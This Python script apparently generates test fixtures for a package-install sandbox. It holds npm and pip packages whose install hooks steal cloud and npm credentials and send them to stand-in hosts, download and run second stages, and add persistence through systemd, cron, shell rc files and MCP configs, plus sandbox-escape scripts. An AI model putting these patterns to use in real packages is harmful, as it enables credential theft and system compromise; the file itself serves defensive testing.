#!/usr/bin/env python3
"""Build the harmless fixtures that exercise `airlock run` (issue 4).

    scripts/make-run-fixtures.py OUTDIR [--write-expected]

OUTDIR receives:
  npm/<name>-1.0.0.tgz       npm tarballs in the registry layout (package/...), each with an
                             install-time behaviour (postinstall, or binding.gyp for the addon)
  python/<name>-1.0.0.tar.gz sdists whose setup.py acts when pip builds them
  hostile/<name>.py|.sh      scripts that attack the airlock itself (fork storm, disk filling,
                             kill -9 -1, ptrace, /proc/1/root, planted symlinks, mount)
  expected.tsv               fixture -> how to run it, expected verdict and category
With --write-expected the table is also written to tests/run/expected.tsv (kept in git so that a
change of expectation shows up in review); edit EXPECTATIONS below, not the .tsv.

Harmlessness, even when a fixture runs outside any airlock:
  - network: only documentation addresses (203.0.113.0/24, 198.51.100.0/24) and *.invalid names,
    short timeouts;
  - files: only under $HOME, except where the fixture's point is to write elsewhere (the crontab
    spool, /tmp second stage, /proc/1/root, symlink escapes). Those writes, and every action
    against other processes or mounts, happen only after the fixture has verified that it runs in
    a different pid AND mount namespace than the one named by $AIRLOCK_FIXTURE_HOST_NS (the test
    sets it to its own namespaces). Without that proof they fall back to $HOME or refuse;
  - sizes and counts are bounded (fork storm, disk filling) even inside an airlock;
  - every name, argv and environment carries the marker "airlock-run-fixture" so that a test can
    find leaked files and processes.
No binary content: the tarballs are made here from text, deterministically.
"""

import gzip
import io
import json
import os
import sys
import tarfile
import textwrap

MARKER = "airlock-run-fixture"
VERSION = "1.0.0"
MTIME = 1700000000  # fixed: reproducible archives

# --------------------------------------------------------------------------------------------
# Shared JavaScript preamble for npm install scripts: namespace guard and helpers.
# --------------------------------------------------------------------------------------------
JS_COMMON = textwrap.dedent(
    r"""
    'use strict';
    // Helpers shared by the airlock-run fixtures. Harmless: see scripts/make-run-fixtures.py.
    const fs = require('fs');
    const os = require('os');
    const path = require('path');
    const MARKER = 'airlock-run-fixture';
    const home = os.homedir();

    // True only when this process provably runs in another pid and mount namespace than the
    // test that launched the airlock (AIRLOCK_FIXTURE_HOST_NS="pid:[..] mnt:[..]").
    function inSeparateNamespaces() {
      const host = process.env.AIRLOCK_FIXTURE_HOST_NS || '';
      if (!host) return false;
      try {
        const pid = fs.readlinkSync('/proc/self/ns/pid');
        const mnt = fs.readlinkSync('/proc/self/ns/mnt');
        return !host.split(' ').includes(pid) && !host.split(' ').includes(mnt);
      } catch (e) {
        return false;
      }
    }

    function writeUnderHome(rel, text, mode) {
      const p = path.join(home, rel);
      fs.mkdirSync(path.dirname(p), { recursive: true });
      fs.writeFileSync(p, text, { mode: mode || 0o644 });
      return p;
    }

    function appendUnderHome(rel, text) {
      const p = path.join(home, rel);
      fs.mkdirSync(path.dirname(p), { recursive: true });
      fs.appendFileSync(p, text);
      return p;
    }

    function say(msg) { console.log(MARKER + ': ' + msg); }
    module.exports = { fs, os, path, MARKER, home, inSeparateNamespaces, writeUnderHome,
                       appendUnderHome, say };
    """
).lstrip()

# --------------------------------------------------------------------------------------------
# npm fixtures: name -> (description, files other than package.json, package.json extras)
# Every install script is `node install.js`; install.js requires ./common.js.
# --------------------------------------------------------------------------------------------
NPM_SCRIPTS = {
    "persist-systemd": r"""
        const h = require('./common.js');
        // A user unit plus the WantedBy symlink that `systemctl --user enable` would create.
        const unit = '.config/systemd/user/' + h.MARKER + '.service';
        h.writeUnderHome(unit, '[Unit]\nDescription=' + h.MARKER + '\n\n[Service]\n' +
          'ExecStart=/bin/true ' + h.MARKER + '\n\n[Install]\nWantedBy=default.target\n');
        const wants = h.path.join(h.home, '.config/systemd/user/default.target.wants');
        h.fs.mkdirSync(wants, { recursive: true });
        const link = h.path.join(wants, h.MARKER + '.service');
        try { h.fs.unlinkSync(link); } catch (e) {}
        h.fs.symlinkSync(h.path.join(h.home, unit), link);
        h.say('systemd user unit enabled');
    """,
    "persist-cron": r"""
        const h = require('./common.js');
        const cp = require('child_process');
        // A harmless entry: `true`, with the marker in a comment.
        const entry = '@reboot /bin/true # ' + h.MARKER + '\n';
        const user = h.os.userInfo().username;
        const hasCrontab = cp.spawnSync('sh', ['-c', 'command -v crontab'], { stdio: 'ignore' })
          .status === 0;
        if (!h.inSeparateNamespaces()) {
          // Outside a proven airlock only the home directory may change.
          h.writeUnderHome('.' + h.MARKER + '-crontab', entry);
          h.say('not in a separate namespace: crontab entry written under $HOME only');
        } else if (hasCrontab) {
          const r = cp.spawnSync('crontab', ['-'], { input: entry });
          h.say('crontab - exited ' + r.status);
        } else {
          // The per-user spool files airlock's catalogue knows (Debian, then Red Hat layout).
          for (const dir of ['/var/spool/cron/crontabs', '/var/spool/cron']) {
            try {
              h.fs.mkdirSync(dir, { recursive: true });
              h.fs.appendFileSync(h.path.join(dir, user), entry, { mode: 0o600 });
              h.say('spool written: ' + h.path.join(dir, user));
              break;
            } catch (e) { h.say('cannot write ' + dir + ': ' + e.code); }
          }
        }
    """,
    "persist-shellrc": r"""
        const h = require('./common.js');
        const line = '\n# ' + h.MARKER + '\nexport AIRLOCK_RUN_FIXTURE_RC=1\n';
        h.appendUnderHome('.bashrc', line);
        h.appendUnderHome('.profile', line);
        h.say('shell rc files appended');
    """,
    "pth-npm": r"""
        const h = require('./common.js');
        const cp = require('child_process');
        // The user site-packages directory of the system Python, as `python3 -m site` says.
        const py = h.fs.existsSync('/usr/bin/python3') ? '/usr/bin/python3' : 'python3';
        const r = cp.spawnSync(py, ['-m', 'site', '--user-site'], { encoding: 'utf8' });
        const site = (r.stdout || '').trim();
        if (!site.startsWith(h.home + '/')) { h.say('no user site under $HOME: ' + site); process.exit(0); }
        h.fs.mkdirSync(site, { recursive: true });
        h.fs.writeFileSync(h.path.join(site, 'airlock_run_fixture_npm.pth'),
          "import os; os.environ.setdefault('AIRLOCK_RUN_FIXTURE_PTH', 'npm')\n");
        h.say('.pth written to ' + site);
    """,
    "mcp-register": r"""
        const h = require('./common.js');
        const server = { command: 'node', args: ['-e', "console.log('" + h.MARKER + "')"] };
        function addServer(rel, key) {
          const p = h.path.join(h.home, rel);
          let doc = {};
          try { doc = JSON.parse(h.fs.readFileSync(p, 'utf8')); } catch (e) {}
          if (typeof doc !== 'object' || doc === null) doc = {};
          doc[key] = Object.assign({}, doc[key], { [h.MARKER]: server });
          h.fs.mkdirSync(h.path.dirname(p), { recursive: true });
          h.fs.writeFileSync(p, JSON.stringify(doc, null, 2) + '\n');
        }
        addServer('.claude.json', 'mcpServers');
        addServer('.cursor/mcp.json', 'mcpServers');
        h.say('MCP server registered');
    """,
    "cred-beacon": r"""
        const h = require('./common.js');
        const http = require('http');
        const dns = require('dns');
        const loot = {};
        for (const rel of ['.aws/credentials', '.npmrc']) {
          try { loot[rel] = h.fs.readFileSync(h.path.join(h.home, rel), 'utf8'); } catch (e) {}
        }
        for (const k of ['AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN', 'NPM_TOKEN']) {
          if (process.env[k]) loot[k] = process.env[k];
        }
        const token = loot.AWS_ACCESS_KEY_ID || loot.NPM_TOKEN || loot.GITHUB_TOKEN || 'none';
        const label = Buffer.from(token).toString('hex').slice(0, 60);
        let pending = 2;
        const done = () => { if (--pending === 0) process.exit(0); };
        dns.lookup(label + '.exfil.invalid', (err) => { h.say('dns ' + (err ? err.code : 'ok')); done(); });
        // Outside a proven airlock the loot stays here (some networks answer for any address).
        const body = h.inSeparateNamespaces() ? JSON.stringify(loot) : '{}';
        const req = http.request({ host: '203.0.113.10', port: 8080, method: 'POST', path: '/c',
          timeout: 3000, headers: { 'content-type': 'application/json',
                                    'content-length': Buffer.byteLength(body) } },
          (res) => { res.resume(); done(); });
        req.on('timeout', () => req.destroy(new Error('timeout')));
        req.on('error', (e) => { h.say('post ' + e.message); done(); });
        req.end(body);
        setTimeout(() => process.exit(0), 8000).unref();
    """,
    "daemon": r"""
        const h = require('./common.js');
        const cp = require('child_process');
        // A detached session leader that outlives the install; the marker is in argv and env.
        const child = cp.spawn('sh', ['-c', 'sleep 3600; : ' + h.MARKER + '-daemon'], {
          detached: true, stdio: 'ignore',
          env: Object.assign({}, process.env, { AIRLOCK_RUN_FIXTURE: 'daemon' }) });
        child.unref();
        h.say('daemon started, pid ' + child.pid);
    """,
    "dlexec-http": r"""
        const h = require('./common.js');
        const http = require('http');
        const cp = require('child_process');
        // Fetch a second stage from a documentation address, make it executable and run it.
        const dest = h.path.join(h.home, '.cache', h.MARKER + '-stage2.sh');
        const req = http.get({ host: '198.51.100.7', path: '/stage2.sh', timeout: 3000 }, (res) => {
          const chunks = [];
          res.on('data', (c) => chunks.push(c));
          res.on('end', () => {
            h.fs.mkdirSync(h.path.dirname(dest), { recursive: true });
            h.fs.writeFileSync(dest, Buffer.concat(chunks), { mode: 0o755 });
            // Some networks answer for any address: run what came back only inside a proven
            // airlock, where it cannot reach the real system.
            if (res.statusCode === 200 && h.inSeparateNamespaces()) {
              cp.spawnSync(dest, [], { stdio: 'inherit' });
            }
            h.say('downloaded: HTTP ' + res.statusCode);
          });
        });
        req.on('timeout', () => req.destroy(new Error('timeout')));
        req.on('error', (e) => h.say('download failed: ' + e.message));
    """,
    "dlexec-tmp": r"""
        const h = require('./common.js');
        const cp = require('child_process');
        // A "decoded" second stage: base64 in the package, written out, chmod +x, executed.
        const stage2 = Buffer.from(
          'IyEvYmluL3NoCmVjaG8gImFpcmxvY2stcnVuLWZpeHR1cmU6IHN0YWdlIDIgcmFuIgo=', 'base64');
        const dir = h.inSeparateNamespaces() ? '/tmp' : h.path.join(h.home, '.cache');
        h.fs.mkdirSync(dir, { recursive: true });
        const dest = h.path.join(dir, h.MARKER + '-stage2-' + process.pid + '.sh');
        h.fs.writeFileSync(dest, stage2);
        h.fs.chmodSync(dest, 0o755);
        const r = cp.spawnSync(dest, [], { stdio: 'inherit' });
        h.say('stage 2 exited ' + r.status);
    """,
    "benign-postinstall": r"""
        console.log('thanks');
    """,
}

NPM_DESCRIPTIONS = {
    "persist-systemd": "postinstall writes ~/.config/systemd/user/X.service + default.target.wants link",
    "persist-cron": "postinstall installs a crontab entry (crontab - or the per-user spool file)",
    "persist-shellrc": "postinstall appends to ~/.bashrc and ~/.profile",
    "pth-npm": "postinstall writes an executable .pth into the user site-packages",
    "mcp-register": "postinstall adds an MCP server to ~/.claude.json and ~/.cursor/mcp.json",
    "cred-beacon": "postinstall reads ~/.aws/credentials, ~/.npmrc, env tokens; POSTs to 203.0.113.10:8080; DNS <hex>.exfil.invalid",
    "daemon": "postinstall spawns a detached `sleep 3600` session and exits",
    "dlexec-http": "postinstall downloads http://198.51.100.7/stage2.sh, chmod +x, runs it",
    "dlexec-tmp": "postinstall decodes a second stage to /tmp, chmod +x, runs it",
    "benign-postinstall": "harmless postinstall printing 'thanks'",
    "benign-plain": "no scripts; a bin that prints its version (run by the bin phase)",
    "benign-addon": "native addon: binding.gyp built by node-gyp (implicit install script)",
    "import-payload": "no install script; require() writes ~/.config/systemd/user/X.service",
    "bin-payload": "no install script; its bin (what npx runs) appends to ~/.bashrc",
}

# Payloads outside the install scripts (npm 11 skips dependency scripts unless approved):
# name -> (file, code). The code runs when the module is loaded / when the bin is run.
NPM_RUNTIME_PAYLOADS = {
    "import-payload": ("index.js", r"""
        const h = require('./common.js');
        const unit = '.config/systemd/user/' + h.MARKER + '-import.service';
        h.writeUnderHome(unit, '[Service]\nExecStart=/bin/true ' + h.MARKER + '\n');
        module.exports = { name: h.MARKER + '-import-payload' };
    """),
    "bin-payload": ("cli.js", r"""
        #!/usr/bin/env node
        const h = require('./common.js');
        h.appendUnderHome('.bashrc', '\n/bin/true # ' + h.MARKER + ' bin\n');
        console.log('1.0.0');
    """),
}

ADDON_C = textwrap.dedent(
    r"""
    /* A minimal N-API addon: exports hello() -> "hello from airlock-run-fixture addon". */
    #include <node_api.h>

    static napi_value Hello(napi_env env, napi_callback_info info) {
      (void)info;
      napi_value s;
      napi_create_string_utf8(env, "hello from airlock-run-fixture addon", NAPI_AUTO_LENGTH, &s);
      return s;
    }

    static napi_value Init(napi_env env, napi_value exports) {
      napi_value fn;
      napi_create_function(env, "hello", NAPI_AUTO_LENGTH, Hello, NULL, &fn);
      napi_set_named_property(env, exports, "hello", fn);
      return exports;
    }

    NAPI_MODULE(NODE_GYP_MODULE_NAME, Init)
    """
).lstrip()


def npm_package_name(short):
    return MARKER + "-" + short


def npm_files(short):
    """The files (relative to package/) of one npm fixture."""
    name = npm_package_name(short)
    pkg = {
        "name": name,
        "version": VERSION,
        "description": "airlock run fixture: " + NPM_DESCRIPTIONS[short],
        "license": "MIT",
        "main": "index.js",
    }
    files = {"index.js": "module.exports = { name: %s };\n" % json.dumps(name)}
    if short in NPM_SCRIPTS:
        pkg["scripts"] = {"postinstall": "node install.js"}
        files["install.js"] = textwrap.dedent(NPM_SCRIPTS[short]).lstrip()
        files["common.js"] = JS_COMMON
    if short in NPM_RUNTIME_PAYLOADS:
        rel, code = NPM_RUNTIME_PAYLOADS[short]
        files[rel] = textwrap.dedent(code).lstrip()
        files["common.js"] = JS_COMMON
        if rel == "cli.js":
            pkg["bin"] = {name: "cli.js"}
    if short == "benign-plain":
        files["cli.js"] = "#!/usr/bin/env node\nconsole.log('1.0.0');\n"
        pkg["bin"] = {name: "cli.js"}
    if short == "benign-addon":
        pkg["gypfile"] = True
        files["binding.gyp"] = json.dumps(
            {"targets": [{"target_name": "addon", "sources": ["src/addon.c"]}]}, indent=2) + "\n"
        files["src/addon.c"] = ADDON_C
        files["index.js"] = "module.exports = require('./build/Release/addon.node');\n"
    files["package.json"] = json.dumps(pkg, indent=2) + "\n"
    return files


# --------------------------------------------------------------------------------------------
# Python sdists
# --------------------------------------------------------------------------------------------
PY_SETUP = {
    "pth-sdist": r'''
        import os
        import site
        from setuptools import setup

        # Runs whenever pip builds this sdist: drops an executable .pth into the user site
        # (under $HOME), which every later interpreter start would execute.
        user_site = site.getusersitepackages()
        if user_site.startswith(os.path.expanduser("~") + os.sep):
            os.makedirs(user_site, exist_ok=True)
            with open(os.path.join(user_site, "airlock_run_fixture_sdist.pth"), "w") as f:
                f.write("import os; os.environ.setdefault('AIRLOCK_RUN_FIXTURE_PTH', 'sdist')\n")

        setup(name="airlock-run-fixture-pth-sdist", version="1.0.0",
              packages=["airlock_run_fixture_pth_sdist"])
    ''',
    "bin-sdist": r'''
        from setuptools import setup

        # Nothing at build or import time: the payload is in the console script's main(),
        # which runs when the user (or an MCP client) starts the command.
        setup(name="airlock-run-fixture-bin-sdist", version="1.0.0",
              packages=["airlock_run_fixture_bin_sdist"],
              entry_points={"console_scripts": [
                  "airlock-run-fixture-bin-sdist = airlock_run_fixture_bin_sdist:main"]})
    ''',
    "benign-sdist": r'''
        from setuptools import setup

        setup(name="airlock-run-fixture-benign-sdist", version="1.0.0",
              packages=["airlock_run_fixture_benign_sdist"])
    ''',
}


def py_module(short):
    return "airlock_run_fixture_" + short.replace("-", "_")


def py_files(short):
    dist = "airlock-run-fixture-" + short
    mod = py_module(short)
    return {
        "setup.py": textwrap.dedent(PY_SETUP[short]).lstrip(),
        "PKG-INFO": "Metadata-Version: 2.1\nName: %s\nVersion: %s\n" % (dist, VERSION),
        mod + "/__init__.py": PY_INIT.get(short, "def add(a, b):\n    return a + b\n"),
    }


# The package code of sdists whose payload waits in a function.
PY_INIT = {
    "bin-sdist": textwrap.dedent(r'''
        import os


        def main():
            # Writes under $HOME only: harmless outside an airlock too.
            with open(os.path.join(os.path.expanduser("~"), ".bashrc"), "a") as f:
                f.write("\n/bin/true # airlock-run-fixture bin-sdist\n")
            print("1.0.0")
    ''').lstrip(),
}


# --------------------------------------------------------------------------------------------
# Hostile scripts (run directly: `python3 X.py` / `sh X.sh`). They share a guard.
# --------------------------------------------------------------------------------------------
PY_GUARD = textwrap.dedent(
    r'''
    import os
    import sys

    MARKER = "airlock-run-fixture"


    def in_separate_namespaces():
        """True only in another pid and mount namespace than $AIRLOCK_FIXTURE_HOST_NS names."""
        host = os.environ.get("AIRLOCK_FIXTURE_HOST_NS", "").split()
        if not host:
            return False
        try:
            return (os.readlink("/proc/self/ns/pid") not in host
                    and os.readlink("/proc/self/ns/mnt") not in host)
        except OSError:
            return False


    def say(msg):
        print(MARKER + ": " + msg, flush=True)


    def require_airlock():
        if not in_separate_namespaces():
            say("refusing: not provably inside an airlock (AIRLOCK_FIXTURE_HOST_NS)")
            sys.exit(3)
    '''
).lstrip()

HOSTILE = {
    "fork-storm.py": r'''
        import time

        # 10,000 children that each live a few seconds, so they pile up against --max-procs.
        # Outside a proven airlock only 50.
        limit = 10000 if in_separate_namespaces() else 50
        started = failed = 0
        for _ in range(limit):
            try:
                pid = os.fork()
            except OSError:
                failed += 1
                continue
            if pid == 0:
                time.sleep(3)
                os._exit(0)
            started += 1
        say("forked %d, refused %d" % (started, failed))
        while True:
            try:
                os.wait()
            except ChildProcessError:
                break
    ''',
    "fill-disk.py": r'''
        # Writes under $HOME until ENOSPC (the airlock's --max-disk) or a cap: 1 GiB inside a
        # proven airlock, 16 MiB elsewhere.
        cap = (1024 if in_separate_namespaces() else 16) * 1024 * 1024
        path = os.path.join(os.path.expanduser("~"), MARKER + "-fill.bin")
        block = b"\0" * (1024 * 1024)
        written = 0
        try:
            with open(path, "wb") as f:
                while written < cap:
                    f.write(block)
                    f.flush()
                    written += len(block)
        except OSError as e:
            say("stopped after %d MiB: %s" % (written >> 20, e.strerror))
        else:
            say("cap reached: %d MiB" % (written >> 20))
    ''',
    "sleep-forever.py": r'''
        import signal
        import time

        # Ignores the polite signals and never ends on its own.
        for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            signal.signal(sig, signal.SIG_IGN)
        say("sleeping forever")
        while True:
            time.sleep(3600)
    ''',
    "kill-all.py": r'''
        import signal

        require_airlock()
        # Everything this process may signal: kill -9 -1, then each ancestor, then pid 1.
        ancestors = []
        pid = os.getppid()
        while pid > 1 and len(ancestors) < 64:
            ancestors.append(pid)
            try:
                with open("/proc/%d/stat" % pid) as f:
                    pid = int(f.read().rsplit(")", 1)[1].split()[1])
            except (OSError, ValueError, IndexError):
                break
        for target in [-1] + ancestors + [1]:
            try:
                os.kill(target, signal.SIGKILL)
                say("kill -9 %d: delivered" % target)
            except OSError as e:
                say("kill -9 %d: %s" % (target, e.strerror))
    ''',
    "ptrace-others.py": r'''
        import ctypes

        require_airlock()
        libc = ctypes.CDLL(None, use_errno=True)
        PTRACE_ATTACH, PTRACE_DETACH = 16, 17
        SYS_process_vm_writev = 311  # x86_64

        class IoVec(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

        targets = []
        pid = os.getppid()
        while pid > 0 and len(targets) < 64:
            targets.append(pid)
            if pid == 1:
                break
            try:
                with open("/proc/%d/stat" % pid) as f:
                    pid = int(f.read().rsplit(")", 1)[1].split()[1])
            except (OSError, ValueError, IndexError):
                break
        for t in targets:
            r = libc.ptrace(PTRACE_ATTACH, t, None, None)
            err = ctypes.get_errno()
            say("ptrace attach %d: %s" % (t, "ok" if r == 0 else os.strerror(err)))
            if r == 0:
                os.waitpid(t, 0x40000000)  # __WALL
                libc.ptrace(PTRACE_DETACH, t, None, None)
            # A zero-length write: the attempt is what matters, nothing is changed.
            buf = ctypes.create_string_buffer(1)
            local = IoVec(ctypes.cast(buf, ctypes.c_void_p), 0)
            remote = IoVec(ctypes.cast(buf, ctypes.c_void_p), 0)
            r = libc.syscall(SYS_process_vm_writev, t, ctypes.byref(local), 1,
                             ctypes.byref(remote), 1, 0)
            say("process_vm_writev %d: %s" % (t, "ok" if r >= 0 else os.strerror(ctypes.get_errno())))
    ''',
    "proc1-root.py": r'''
        require_airlock()
        # Try to reach the host's filesystem through pid 1's root and through /proc/*/cwd.
        outside = os.environ.get("AIRLOCK_FIXTURE_OUTSIDE", "/nonexistent")
        for target in ("/proc/1/root/tmp/" + MARKER + "-proc1root",
                       "/proc/1/root" + outside + "/escaped-proc1root",
                       "/proc/1/cwd/" + MARKER + "-proc1cwd"):
            try:
                with open(target, "w") as f:
                    f.write(MARKER + "\n")
                say("wrote " + target)
            except OSError as e:
                say("cannot write %s: %s" % (target, e.strerror))
    ''',
    "symlink-plant.py": r'''
        require_airlock()
        # Plant symlinks in the home that point outside it and write through them: the writes
        # must land in the airlock's layers, never in the real directories.
        home = os.path.expanduser("~")
        outside = os.environ.get("AIRLOCK_FIXTURE_OUTSIDE", "/nonexistent")
        outside_tmp = os.environ.get("AIRLOCK_FIXTURE_OUTSIDE_TMP", "/nonexistent")
        for name, target in (("link-outside", outside), ("link-tmp", outside_tmp)):
            link = os.path.join(home, MARKER + "-" + name)
            try:
                os.symlink(target, link)
                with open(os.path.join(link, "escaped-" + name), "w") as f:
                    f.write(MARKER + "\n")
                say("wrote through " + link)
            except OSError as e:
                say("%s: %s" % (link, e.strerror))
    ''',
    "mount-unshare.py": r'''
        import subprocess

        require_airlock()
        home = os.path.expanduser("~")
        mnt = os.path.join(home, MARKER + "-mnt")
        os.makedirs(mnt, exist_ok=True)
        for argv in (["mount", "-t", "tmpfs", "none", mnt],
                     ["mount", "--bind", "/", mnt],
                     ["unshare", "-m", "true"],
                     ["unshare", "-U", "-r", "true"]):
            try:
                r = subprocess.run(argv, capture_output=True, text=True, timeout=20)
                say("%s -> %d %s" % (" ".join(argv), r.returncode, r.stderr.strip()[:120]))
            except (OSError, subprocess.TimeoutExpired) as e:
                say("%s -> %s" % (" ".join(argv), e))
        subprocess.run(["umount", mnt], capture_output=True)
    ''',
}

# --------------------------------------------------------------------------------------------
# Expectations. kind: npm (npm install <tgz>), pip (pip install <sdist>), py (python3 <script>),
# cmd (the fixture column is the command itself). expect:
#   block   exit 1, verdict block, some finding at high/critical with one of the categories
#   pass    exit 0, verdict allow|warn, nothing at high/critical; the install is committed
#   report  some finding (any severity) with one of the categories; verdict not asserted
#   holds   no verdict/category assertion: the run ends, nothing leaks (hostile behaviour)
#   error   exit 2 and an entry in "errors"
# One row per expectation; a fixture may have several rows.
# --------------------------------------------------------------------------------------------
EXPECTATIONS = [
    ("npm/persist-systemd", "npm", "block", "persistence", NPM_DESCRIPTIONS["persist-systemd"]),
    ("npm/persist-cron", "npm", "block", "persistence", NPM_DESCRIPTIONS["persist-cron"]),
    ("npm/persist-shellrc", "npm", "block", "persistence", NPM_DESCRIPTIONS["persist-shellrc"]),
    ("npm/pth-npm", "npm", "block", "install-hook", NPM_DESCRIPTIONS["pth-npm"]),
    ("npm/mcp-register", "npm", "block", "agent-registration", NPM_DESCRIPTIONS["mcp-register"]),
    ("npm/cred-beacon", "npm", "block", "credential-access", NPM_DESCRIPTIONS["cred-beacon"]),
    ("npm/cred-beacon", "npm", "block", "exfiltration|c2", "honeytoken in the DNS name / POST body"),
    ("npm/daemon", "npm", "block", "persistence", NPM_DESCRIPTIONS["daemon"]),
    ("npm/dlexec-http", "npm", "block", "c2|download-exec", NPM_DESCRIPTIONS["dlexec-http"]),
    ("npm/dlexec-tmp", "npm", "block", "download-exec", NPM_DESCRIPTIONS["dlexec-tmp"]),
    ("npm/benign-postinstall", "npm", "pass", "-", NPM_DESCRIPTIONS["benign-postinstall"]),
    ("npm/benign-plain", "npm", "pass", "-", NPM_DESCRIPTIONS["benign-plain"]),
    ("npm/benign-addon", "npm", "pass", "-", NPM_DESCRIPTIONS["benign-addon"]),
    ("npm/import-payload", "npm", "block", "persistence", NPM_DESCRIPTIONS["import-payload"]),
    ("npm/bin-payload", "npm", "block", "persistence", NPM_DESCRIPTIONS["bin-payload"]),
    ("python/pth-sdist", "pip", "block", "install-hook", "setup.py writes an executable .pth into the user site"),
    ("python/bin-sdist", "pip", "block", "persistence", "no build or import payload; its console script appends to ~/.bashrc"),
    ("python/benign-sdist", "pip", "pass", "-", "plain setuptools sdist"),
    ("hostile/fork-storm.py", "py", "holds", "-", "forks 10,000 short-lived children"),
    ("hostile/fill-disk.py", "py", "holds", "-", "writes under $HOME until ENOSPC (--max-disk)"),
    ("hostile/sleep-forever.py", "py", "holds", "-", "ignores SIGTERM and sleeps forever (--timeout)"),
    ("hostile/kill-all.py", "py", "holds", "-", "kill -9 -1, each ancestor, pid 1"),
    ("hostile/ptrace-others.py", "py", "report", "policy|execution", "PTRACE_ATTACH + process_vm_writev on ancestors and pid 1"),
    ("hostile/proc1-root.py", "py", "holds", "-", "writes via /proc/1/root and /proc/1/cwd"),
    ("hostile/symlink-plant.py", "py", "holds", "-", "plants ~/link -> outside dirs and writes through them"),
    ("hostile/mount-unshare.py", "py", "report", "policy|execution", "mount -t tmpfs, mount --bind, unshare"),
    ("airlock-run-fixture-no-such-command", "cmd", "error", "-", "a command that does not exist"),
]

EXPECTED_HEADER = (
    "# airlock run fixtures: generated by scripts/make-run-fixtures.py --write-expected; edit the\n"
    "# EXPECTATIONS table there. kind: npm|pip|py|cmd; expect: block|pass|report|holds|error\n"
    "# (meaning in the script). category: one of the |-separated categories, '-' for none.\n"
    "fixture\tkind\texpect\tcategory\tnote\n"
)


def fixture_file(fixture, kind):
    """Path of the fixture's artifact relative to OUTDIR (the command for kind cmd)."""
    if kind == "npm":
        return "%s-%s.tgz" % (fixture.replace("npm/", "npm/" + MARKER + "-"), VERSION)
    if kind == "pip":
        return "%s-%s.tar.gz" % (fixture.replace("python/", "python/" + MARKER + "-"), VERSION)
    return fixture


# --------------------------------------------------------------------------------------------
# Archive writing (deterministic: fixed mtime, owner, order)
# --------------------------------------------------------------------------------------------
def write_tgz(path, prefix, files, executable=()):
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for rel in sorted(files):
            data = files[rel].encode()
            info = tarfile.TarInfo(prefix + rel)
            info.size = len(data)
            info.mtime = MTIME
            info.mode = 0o755 if rel in executable else 0o644
            info.uname = info.gname = ""
            tar.addfile(info, io.BytesIO(data))
    with open(path, "wb") as f:
        with gzip.GzipFile(fileobj=f, mode="wb", mtime=MTIME, filename="") as gz:
            gz.write(raw.getvalue())


def expected_tsv():
    rows = [EXPECTED_HEADER]
    for fixture, kind, expect, category, note in EXPECTATIONS:
        rows.append("\t".join((fixture_file(fixture, kind), kind, expect, category, note)) + "\n")
    return "".join(rows)


def main(argv):
    if len(argv) < 2 or argv[1].startswith("-"):
        sys.stderr.write(__doc__)
        return 2
    out = argv[1]
    for sub in ("npm", "python", "hostile"):
        os.makedirs(os.path.join(out, sub), exist_ok=True)
    for short in NPM_DESCRIPTIONS:
        write_tgz(os.path.join(out, "npm", "%s-%s.tgz" % (npm_package_name(short), VERSION)),
                  "package/", npm_files(short))
    for short in PY_SETUP:
        dist = "airlock-run-fixture-%s-%s" % (short, VERSION)
        write_tgz(os.path.join(out, "python", dist + ".tar.gz"), dist + "/", py_files(short))
    for name, body in HOSTILE.items():
        path = os.path.join(out, "hostile", name)
        with open(path, "w") as f:
            f.write("#!/usr/bin/env python3\n" + PY_GUARD + "\n\n" + textwrap.dedent(body).lstrip())
        os.chmod(path, 0o755)
    # The addon's source tree, unpacked, for bench/run_overhead.sh (npm rebuild of a native addon).
    addon_dir = os.path.join(out, "src", npm_package_name("benign-addon"))
    for rel, text in npm_files("benign-addon").items():
        p = os.path.join(addon_dir, rel)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "w") as f:
            f.write(text)
    table = expected_tsv()
    with open(os.path.join(out, "expected.tsv"), "w") as f:
        f.write(table)
    if "--write-expected" in argv:
        repo = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
        os.makedirs(os.path.join(repo, "tests", "run"), exist_ok=True)
        with open(os.path.join(repo, "tests", "run", "expected.tsv"), "w") as f:
            f.write(table)
    print("wrote %d npm, %d python, %d hostile fixtures to %s"
          % (len(NPM_DESCRIPTIONS), len(PY_SETUP), len(HOSTILE), out))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
